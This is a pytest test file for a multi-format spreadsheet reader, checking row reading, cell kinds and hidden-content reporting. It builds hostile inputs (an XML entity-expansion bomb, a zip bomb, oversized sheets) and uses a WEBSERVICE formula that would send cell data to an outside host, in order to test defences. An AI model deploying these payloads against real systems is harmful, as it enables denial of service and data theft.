"""Workbooks of three programs read alike, apart; what they hide is said; attacks cost one process."""

import datetime
import time

import pytest

from conventions.exchange.sheets import Kind, UnreadableSheet, read_sheet
from conventions.exchange.sheets.books import BROKEN, TOO_HEAVY
from conventions.exchange.sheets.cells import EMPTY, TOO_BIG, TOO_LONG, TOO_WIDE
from conventions.tests.exchange.sheets.books import ods, with_part, xls, xlsx, zipped

SHEET = "xl/worksheets/sheet1.xml"
HEAD, ROW = ["Matériel", "Série", "Prix"], ["Écran", "CN01", 85000]


def texts(sheet) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in sheet.rows]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.xlsx", xlsx(HEAD, ROW)),
        ("a.ods", ods(HEAD, ROW)),
        ("a.xls", xls(HEAD, ROW)),
        ("sans_nom", xlsx(HEAD, ROW)),
    ],
)
def test_same_rows_of_three_programs(name, content):
    assert texts(read_sheet(content, name)) == [HEAD, ["Écran", "CN01", "85000"]]


def test_cells_say_how_they_were_read():
    row = [datetime.date(2019, 7, 9), True, "#N/A", "=A1", 356938035643809, 9.5e17, 43655, 2.5]
    cells = read_sheet(xlsx(row), "a.xlsx").rows[0].cells
    assert [(cell.text, cell.kind) for cell in cells] == [
        ("2019-07-09", Kind.DATE),
        ("oui", Kind.TRUTH),
        ("#N/A", Kind.ERROR),
        ("formule sans valeur", Kind.FORMULA),
        ("356938035643809", Kind.NUMBER),
        ("9,50000000000000E+17", Kind.ROUNDED),
        ("43655", Kind.NUMBER),
        ("2.5", Kind.NUMBER),
    ]


def test_days_counted_from_1904_are_said():
    def from_1904(book):
        book.epoch = datetime.datetime(1904, 1, 1)  # noqa: DTZ001 - a spreadsheet has no zone

    day = datetime.date(2019, 7, 9)
    sheet = read_sheet(xlsx([day, 42193], change=from_1904), "a.xlsx")
    assert sheet.from_1904
    assert texts(sheet) == [["2019-07-09", "42193"]]
    assert read_sheet(xls(HEAD, from_1904=True), "a.xls").from_1904
    assert not read_sheet(xls(HEAD), "a.xls").from_1904


def test_hidden_sheets_are_named_and_hidden_columns_read():
    def hide(book):
        book.create_sheet("Prix")["A1"] = 3
        book["Prix"].sheet_state = "hidden"
        book.create_sheet("Autre")["A1"] = 3
        book.active.column_dimensions["B"].hidden = True

    sheet = read_sheet(xlsx(HEAD, ROW, change=hide), "a.xlsx")
    assert sheet.hidden_columns == {1}
    assert "Autre\u00a0» n’est pas lue" in sheet.told[0]
    assert "masquée" in sheet.told[1]
    assert "Prix" in sheet.told[1]
    column = '<table:table-column/><table:table-column table:visibility="collapse"/>'
    assert read_sheet(ods(HEAD, ROW, columns=column), "a.ods").hidden_columns == {1}
    assert read_sheet(xls(HEAD, ROW, hidden=1), "a.xls").hidden_columns == {1}


def test_hidden_rows_are_read_and_told_as_hidden_columns_are():
    def hide(book):
        for number in (2, 3, 4, 6, 9):
            book.active.row_dimensions[number].hidden = True
        book.active.column_dimensions["B"].hidden = True

    sheet = read_sheet(xlsx(HEAD, *[ROW] * 5, change=hide), "a.xlsx")
    assert len(sheet.rows) == 6
    assert sheet.told == [
        "Colonne masquée dans le classeur, lue comme les autres\u00a0: B.",
        "Lignes masquées dans le classeur, lues comme les autres\u00a0: 2 à 4 et 6.",
    ]
    one = "Ligne masquée dans le classeur, lue comme les autres\u00a0: 2."
    calc = with_part(
        ods(HEAD, ROW, ROW),
        "content.xml",
        lambda part: part.replace(
            b"</table:table-row><table:table-row>",
            b'</table:table-row><table:table-row table:visibility="filter">',
            1,
        ),
    )
    assert read_sheet(calc, "a.ods").told == [one]
    assert read_sheet(xls(HEAD, ROW, ROW, hidden_row=1), "a.xls").told == [one]


def test_errors_and_formulas_of_the_other_programs():
    assert read_sheet(xls(["Série", "#"]), "a.xls").rows[0].cells[1] == ("#N/A", Kind.ERROR, False)
    formula = '<table:table-cell table:formula="of:=[.A1]"/>'
    assert read_sheet(ods(["Série", formula, "x"]), "a.ods").rows[0].cells[1].kind == Kind.FORMULA


def test_merged_cell_speaks_for_its_rows():
    rows = [["Lieu", "Série"], ["Nouméa", "S1"], [None, "S2"], ["Poé", "S3"]]
    content = xlsx(*rows, change=lambda book: book.active.merge_cells("A2:A3"))
    cells = [row.cells[0] for row in read_sheet(content, "a.xlsx").rows]
    assert [(cell.text, cell.merged) for cell in cells] == [
        ("Lieu", False), ("Nouméa", True), ("Nouméa", True), ("Poé", False)]  # fmt: skip


def test_empty_rows_with_a_format_are_no_rows():
    def paint(book):
        from openpyxl.styles import Font

        for row in range(3, 400):
            book.active.cell(row, 2).font = Font(bold=True)
        book.active["A1048576"] = " "

    sheet = read_sheet(xlsx([None, None, "Série"], [None, None, "S1"], change=paint), "a.xlsx")
    assert [row.number for row in sheet.rows] == [1, 2]
    assert texts(sheet) == [["", "", "Série"], ["", "", "S1"]]


def test_rows_keep_the_numbers_of_the_spreadsheet():
    sheet = read_sheet(xlsx([], ["Parc"], [], ["Série"], [], ["S1"]), "a.xlsx")
    assert [row.number for row in sheet.rows] == [2, 4, 6]


BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
ENTITIES = f'<!DOCTYPE x [<!ENTITY a0 "x">{BOMB}]>'


FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
CELLS = (
    '<table:table-cell table:number-columns-repeated="16000" office:value-type="string">'
    "<text:p>x</text:p></table:table-cell>"
)
ROWS = f'<table:table-row table:number-rows-repeated="1000000">{CELLS}</table:table-row>'


def in_sheet(old: bytes, new: bytes, head: str = "") -> bytes:
    return with_part(xlsx(HEAD), SHEET, lambda part: head.encode() + part.replace(old, new))


ATTACKS = {
    "entities": (lambda: in_sheet(b"<sheetData>", b"<sheetData>&a11;", ENTITIES), (BROKEN, TOO_HEAVY)),
    "entities of LibreOffice": (lambda: ods(HEAD, more=ENTITIES), (BROKEN, TOO_HEAVY)),
    "one cell far away": (lambda: in_sheet(b"</sheetData>", FAR), (TOO_HEAVY, TOO_WIDE)),
    "zip bomb": (lambda: in_sheet(b"<sheetData>", b"<sheetData>" + b" " * (250 << 20)), (BROKEN, TOO_HEAVY)),
    "rows repeated": (
        lambda: with_part(ods(HEAD), "content.xml", repeat_rows),
        (TOO_HEAVY, TOO_WIDE, TOO_LONG, BROKEN),
    ),
    "cut": (lambda: xlsx(HEAD)[:-300], None),
    "cut xls": (lambda: xls(HEAD)[:2200], None),
    "no sheet": (lambda: xlsx(), (EMPTY,)),
    "heavy": (lambda: b"a;b\n" * (3 << 20), (TOO_BIG,)),
    "columns": (lambda: xlsx(["x"] * 16_384), (TOO_WIDE,)),
    "rows": (lambda: xlsx(*[["x"]] * 20_001), (TOO_LONG,)),
    "not a book": (lambda: zipped(a="b"), None),
}


def repeat_rows(part: bytes) -> bytes:
    return part.replace(b"</table:table>", ROWS.encode() + b"</table:table>")


@pytest.mark.slow
@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_refused_in_time(name):
    make, said = ATTACKS[name]
    content = make()
    start = time.monotonic()
    with pytest.raises(UnreadableSheet) as refusal:
        read_sheet(content, "a.xlsx")
    assert said is None or str(refusal.value) in said
    assert time.monotonic() - start < 100
    assert texts(read_sheet(ods(HEAD), "b.ods")) == [HEAD]  # the next file is read


def test_formula_is_never_computed_nor_kept():
    formula = '=WEBSERVICE("http://exemple.nc/"&A1)'
    cell = read_sheet(xlsx(["x", formula]), "a.xlsx").rows[0].cells[1]
    assert (cell.text, cell.kind) == ("formule sans valeur", Kind.FORMULA)
